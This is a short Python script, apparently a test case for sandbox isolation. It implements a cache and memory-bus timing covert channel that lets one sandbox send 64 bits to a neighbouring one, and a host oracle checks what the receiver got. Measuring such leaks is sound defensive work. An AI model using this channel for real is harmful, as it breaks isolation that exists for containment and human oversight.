# attack: cache_channel
# threat: side-channel
# tries: send bits to a sandbox beside it by how busy it keeps the cache, the memory bus and the processor
# wall: - whatever runs on one machine shares its caches; the rate is measured, and machines of their own are the only wall
# native: - whatever runs on one machine shares its caches; the rate is measured, and machines of their own are the only wall
# control: bits arrive
# oracle: the host, which drew the bits that the first was told to send, compares them with those that the second says it got
import sys
import time

print("begun", flush=True)
HALF = 0.02
BITS = 64
MIB = 1 << 20
# The last argument is the second of the wall clock, which every sandbox shows, at which both begin.
start, send = int(sys.argv[-1]), len(sys.argv) > 5


def until(moment):
    left = moment - time.time()
    if left > 0:
        time.sleep(left)


def press(end):
    """Reads and writes more than the caches hold."""
    while time.time() < end:
        bytes(large)


def rate(end):
    """How often a piece that the cache could hold was copied."""
    done = 0
    while time.time() < end:
        bytes(small)
        done += 1
    return done


if send:
    large = bytearray(b"\xff") * (20 * MIB)
    number = int(sys.argv[4][-16:], 16)
    until(start)
    for bit in range(BITS):
        # Busy then still is one; still then busy is nought.
        one = number >> bit & 1
        moment = start + 2 * HALF * bit
        until(moment if one else moment + HALF)
        press(moment + HALF if one else moment + 2 * HALF)
else:
    small = bytearray(b"\xff") * (2 * MIB)
    got = []
    until(start)
    for bit in range(BITS):
        moment = start + 2 * HALF * bit
        until(moment)
        got.append("1" if rate(moment + HALF) < rate(moment + 2 * HALF) else "0")
    print("bits=" + "".join(got))
